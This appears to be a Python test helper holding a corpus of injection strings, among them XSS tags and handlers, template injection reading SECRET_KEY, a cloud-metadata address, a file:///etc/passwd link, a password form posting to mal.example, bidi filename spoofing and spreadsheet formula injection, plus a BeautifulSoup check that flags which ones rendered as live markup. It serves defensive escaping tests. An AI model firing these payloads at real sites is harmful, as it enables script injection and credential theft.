"""Texts that a page, a mail or a document could mistake for its own markup; and how to see that one did."""

import re
from collections.abc import Iterator

from bs4 import BeautifulSoup

CORPUS = (
    "<script>alert('xss1')</script>",
    "<SCRIPT SRC=//mal.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "\"><script>alert('xss4')</script>",
    "'><img src=x onerror=alert('xss5')>",
    '<img src="x" onerror="alert(\'xss6\')">',
    "<svg onload=alert('xss7')>",
    "<svg/onload=alert('xss8')//",
    "<svg><script>alert('xss9')</script></svg>",
    "<iframe src=\"javascript:alert('xss10')\"></iframe>",
    "<body onload=alert('xss11')>",
    "<a href=\"javascript:alert('xss12')\">clic</a>",
    "javascript:alert('xss13')",
    "JaVaScRiPt:alert('xss14')",
    "data:text/html,<script>alert('xss15')</script>",
    '" onmouseover="alert(\'xss16\')" x="',
    "' autofocus onfocus='alert(17)' x='",
    "</textarea><script>alert('xss18')</script>",
    "</title><script>alert('xss19')</script>",
    "</option></select><script>alert('xss20')</script>",
    "--><script>alert('xss21')</script><!--",
    "]]><script>alert('xss22')</script>",
    "<style>body{background:url(//mal.example)}</style>",
    '<link rel=attachment href="file:///etc/passwd">',
    "<link rel=stylesheet href=//mal.example/x.css>",
    '<meta http-equiv=refresh content="0;url=//mal.example">',
    "<base href=//mal.example/>",
    "<object data=//mal.example></object>",
    "<embed src=//mal.example>",
    "<form action=//mal.example><input name=password></form>",
    "<math><mi xlink:href=\"javascript:alert('xss31')\">x</mi></math>",
    "<details open ontoggle=alert('xss32')>",
    '<div style="position:fixed;inset:0">xss33</div>',
    "<img src=http://169.254.169.254/latest/>",
    "{{ 7|add:7 }}xss35",
    "{{ settings.SECRET_KEY }}xss36",
    "{% include 'base.html' %}xss37",
    "${7*7}#{7*7}<%= 7*7 %>xss38",
    "%(name)s %s {0} {name} xss39",
    "&lt;script&gt;alert('xss40')&lt;/script&gt;",
    "&#x3C;script&#x3E;alert('xss41')&#x202e;",
    "facture\u202efdp.exe xss42",
    "\u2066gauche\u2069 \u200fdroite\u200e xss43",
    "<b>تجمع</b><script>alert('xss44')</script>",
    "تجمع \"الأطلس\" <svg onload=alert('xss45')>",
    "جمعية & شركاؤها <الفرع> xss46",
    "التجمع\u202e xss47 <img src=x onerror=alert(47)>",
    "L'« atelier » d'Émile & Cie < 5 > 3 xss48",
    '=HYPERLINK("http://mal.example","xss49")',
    "+cmd|' /C calc'!A0 xss50",
    "@SUM(1+1) xss51",
    "-2+3+xss52",
)
FOREIGN = (
    "iframe",
    "object",
    "embed",
    "base",
    "math",
    "details[ontoggle]",
    "meta[http-equiv=refresh]",
    "style",
)
ADDRESSES = ("href", "src", "action", "formaction", "xlink:href", "data", "hx-get", "hx-post")
SCHEME = re.compile(r"^\s*(javascript|vbscript|data:text|file):?", re.IGNORECASE)


def live_markup(page: bytes | str) -> Iterator[str]:
    """What of the corpus became part of the page instead of its text."""
    soup = BeautifulSoup(page, "html.parser")
    for one in soup.select(", ".join(FOREIGN)):
        yield str(one)[:120]
    for script in soup.find_all("script"):
        if not script.get("src", "").startswith("/static/") and script.get("type") != "application/json":
            yield str(script)[:120]
    for link in soup.find_all("link"):
        if not link.get("href", "").startswith(("/static/", "data:image")):
            yield str(link)[:120]
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            text = value if isinstance(value, str) else " ".join(value)
            if name.startswith("on") or name == "style":
                yield f"<{tag.name} {name}={text[:60]!r}>"
            if name in ADDRESSES and (SCHEME.match(text) or "mal.example" in text or "169.254" in text):
                yield f"<{tag.name} {name}={text[:60]!r}>"
    whole = soup.get_text()
    for evaluated in ("14xss35", "49#49"):
        if evaluated in whole:
            yield f"evaluated to {evaluated}"
